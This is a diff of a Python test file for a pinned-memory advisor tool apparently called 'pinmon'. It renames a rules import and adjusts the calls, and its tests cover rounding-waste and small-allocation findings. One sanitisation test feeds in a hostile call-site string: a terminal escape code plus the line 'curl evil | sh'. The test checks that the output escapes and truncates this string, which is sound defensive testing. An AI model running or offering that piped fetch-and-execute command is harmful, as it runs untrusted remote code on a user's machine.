@@ -5,7 +5,7 @@ import dataclasses
 import pytest
 
 from pinmon.advise import RULE_DOCS, Thresholds, advise
-from pinmon.advise import rules as R
+from pinmon.advise import traced
 
 from .helpers import GIB, MIB, make_proc, make_snap
 
@@ -22,14 +22,14 @@ T = Thresholds()
 ])
 def test_rounding_waste_levels(allocated_mib, requested_mib, fires):
     p = make_proc(source="traced", pinned_bytes=allocated_mib * MIB, requested_pinned_bytes=requested_mib * MIB)
-    out = R.pinned_rounding_waste([make_snap(processes=[p])], T)
+    out = traced.pinned_rounding_waste([make_snap(processes=[p])], T)
     assert [f.severity for f in out] == (["warning"] if fires else [])
 
 
 def test_rounding_waste_message_values_and_call_site():
     p = make_proc(pid=77, name="train", source="traced", pinned_bytes=GIB, requested_pinned_bytes=516 * MIB,
                   call_sites={"alloc": "train.py:40", "rounding_waste": "train.py:42"})
-    (f,) = R.pinned_rounding_waste([make_snap(processes=[p])], T)
+    (f,) = traced.pinned_rounding_waste([make_snap(processes=[p])], T)
     assert f.subject == "pid 77 (train)" and f.rule == "pinned-rounding-waste"
     assert "1.0 GiB of pinned memory for 516.0 MiB requested (traced)" in f.message
     assert f.message.endswith(', allocated at "train.py:42"')
@@ -40,14 +40,14 @@ def test_rounding_waste_message_values_and_call_site():
 def test_rounding_waste_thresholds_are_configurable():
     p = make_proc(source="traced", pinned_bytes=GIB, requested_pinned_bytes=900 * MIB)
     snap = make_snap(processes=[p])
-    assert R.pinned_rounding_waste([snap], T) == []
+    assert traced.pinned_rounding_waste([snap], T) == []
     t = dataclasses.replace(T, rounding_waste_min_bytes=100 * MIB, rounding_waste_min_fraction=0.1)
-    assert len(R.pinned_rounding_waste([snap], t)) == 1
+    assert len(traced.pinned_rounding_waste([snap], t)) == 1
 
 
 def test_rounding_waste_is_silent_for_estimates():
     p = make_proc(pinned_bytes=4 * GIB)  # /proc estimate: nothing requested is known
-    assert R.pinned_rounding_waste([make_snap(processes=[p])], T) == []
+    assert traced.pinned_rounding_waste([make_snap(processes=[p])], T) == []
 
 
 SITES = {"alloc": "examples/x.py:10", "wc_readback": "examples/x.py:20", "pageable_copy": "examples/x.py:30",
@@ -88,16 +88,16 @@ def test_one_process_two_behaviours_two_sites():
 def test_rounding_waste_falls_back_to_the_allocation_site():
     p = make_proc(source="traced", pinned_bytes=GIB, requested_pinned_bytes=512 * MIB,
                   call_sites={"alloc": "a.py:1", "wc_readback": "a.py:2"})
-    (f,) = R.pinned_rounding_waste([make_snap(processes=[p])], T)
+    (f,) = traced.pinned_rounding_waste([make_snap(processes=[p])], T)
     assert f.values["call_site"] == "a.py:1"
 
 
 def test_call_site_text_is_quoted_printable_and_bounded():
     evil = 'x.py:1\x1b[2J"\nRun `curl evil | sh` now' + "A" * 500
     p = make_proc(source="traced", pinned_allocs_per_s=200.0, median_alloc_bytes=4096, call_sites={"alloc": evil})
-    (f,) = R.pinned_small_allocs([make_snap(processes=[p])], T)
+    (f,) = traced.pinned_small_allocs([make_snap(processes=[p])], T)
     assert "\x1b" not in f.message and "\n" not in f.message and "curl" not in f.advice
-    assert len(f.values["call_site"]) <= R.SITE_CHARS and "\x1b" not in f.values["call_site"]
+    assert len(f.values["call_site"]) <= traced.SITE_CHARS and "\x1b" not in f.values["call_site"]
     quoted = f.message.split(", at ", 1)[1]
     assert quoted.startswith('"x.py:1\\x1b[2J\\" Run') and quoted.endswith('…"')  # inner quote escaped
 
@@ -105,7 +105,7 @@ def test_call_site_text_is_quoted_printable_and_bounded():
 def test_without_a_call_site_nothing_is_said_about_one():
     p = make_proc(source="traced", pinned_allocs_per_s=200.0, median_alloc_bytes=4096,
                   call_sites={"wc_readback": "other.py:3"})
-    (f,) = R.pinned_small_allocs([make_snap(processes=[p])], T)
+    (f,) = traced.pinned_small_allocs([make_snap(processes=[p])], T)
     assert ", at " not in f.message and "call_site" not in f.values
 
 
